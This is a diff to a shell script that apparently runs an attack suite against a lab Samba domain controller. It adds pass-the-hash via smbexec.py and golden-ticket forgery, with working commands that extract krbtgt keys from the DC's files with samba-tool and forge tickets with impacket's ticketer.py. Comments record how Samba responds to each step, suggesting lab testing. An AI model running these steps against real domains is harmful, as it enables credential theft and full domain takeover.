@@ -37,3 +37,35 @@ step pth_smbclient attack atk Administrator smbclient \
   "smbclient -L //10.232.0.10 -U CORP/Administrator%$admin_nt --pw-nt-hash -d0"
 step pth_psexec attack atk Administrator psexec.py \
   "\$PY \$EX/psexec.py -hashes :$admin_nt corp.lab/Administrator@10.232.0.10 whoami"
+# smbexec creates a service per command (cmd.exe echoing into a batch file); Samba refuses it too.
+step pth_smbexec attack atk Administrator smbexec.py \
+  "\$PY \$EX/smbexec.py -hashes :$admin_nt corp.lab/Administrator@10.232.0.10 </dev/null"
+# Golden ticket. The krbtgt keys are read on the DC's own files with samba-tool (no traffic), as an
+# attacker holding a DC backup (or a DCSync Samba accepted) would have them. The domain SID comes from the
+# lookupsid step's own output. impacket 0.10 needs two client-side fixes against Samba 4.17
+# (impacket_compat.py); the realm is given in upper case, as Heimdal requires.
+mkdir -p "$lab/loot"
+rm -f "$lab/loot/krbtgt.keytab"
+samba-tool domain exportkeytab "$lab/loot/krbtgt.keytab" --principal=krbtgt -s "$conf" >"$lab/loot/exportkeytab.log" 2>&1
+krbtgt_aes=$(klist -k -K -e "$lab/loot/krbtgt.keytab" | sed -n 's/.*(aes256-cts-hmac-sha1-96)  *(0x\([0-9a-f]*\)).*/\1/p' | tail -n 1)
+krbtgt_nt=$(samba-tool user getpassword krbtgt --attributes=unicodePwd -H "$dc/private/sam.ldb" -s "$conf" 2>/dev/null |
+  sed -n 's/^unicodePwd:: //p' | base64 -d | od -An -tx1 | tr -d ' \n')
+domain_sid=$(sed -n 's/.*Domain SID is: \(S-1-5-21-[0-9-]*\).*/\1/p' "$out/steps/samr_lookupsid.out")
+if [ -z "$krbtgt_aes" ] || [ -z "$krbtgt_nt" ] || [ -z "$domain_sid" ]; then
+  die "golden ticket: no krbtgt keys ($lab/loot/exportkeytab.log) or no domain SID in steps/samr_lookupsid.out"
+fi
+compat=$here/impacket_compat.py
+forge() { # ticket name, key option, key, user, rid: ticketer writes NAME.ccache in the attacker's folder
+  printf '%s' "cd \$NS_DIR && rm -f $4.ccache && \$PY $compat \$EX/ticketer.py $2 $3 -domain-sid $domain_sid -user-id $5 -domain CORP.LAB $4 >/dev/null && mv $4.ccache $1.ccache"
+}
+smb_k() { # ticket name, user: impacket's smbclient over Kerberos with that ccache (it makes the TGS-REQ)
+  printf '%s' "printf 'shares\nexit\n' | KRB5CCNAME=\$NS_DIR/$1.ccache \$PY $compat \$EX/smbclient.py -k -no-pass -dc-ip 10.232.0.10 CORP.LAB/$2@dc1.corp.lab"
+}
+step golden_ticket attack atk Administrator 'ticketer.py+smbclient.py -k' \
+  "$(forge golden -aesKey "$krbtgt_aes" Administrator 500) && $(smb_k golden Administrator)"
+# Samba keeps no RC4 key for krbtgt: KRB_AP_ERR_BADKEYVER, but the RC4 TGT is on the wire.
+step golden_ticket_rc4 attack atk Administrator 'ticketer.py -nthash' \
+  "$(forge golden-rc4 -nthash "$krbtgt_nt" Administrator 500) && $(smb_k golden-rc4 Administrator)"
+# A name that never existed: Samba decrypts the TGT, looks the client up and answers C_PRINCIPAL_UNKNOWN.
+step golden_ticket_ghost attack atk ghost 'ticketer.py (no such user)' \
+  "$(forge golden-ghost -aesKey "$krbtgt_aes" ghost 1999) && $(smb_k golden-ghost ghost)"
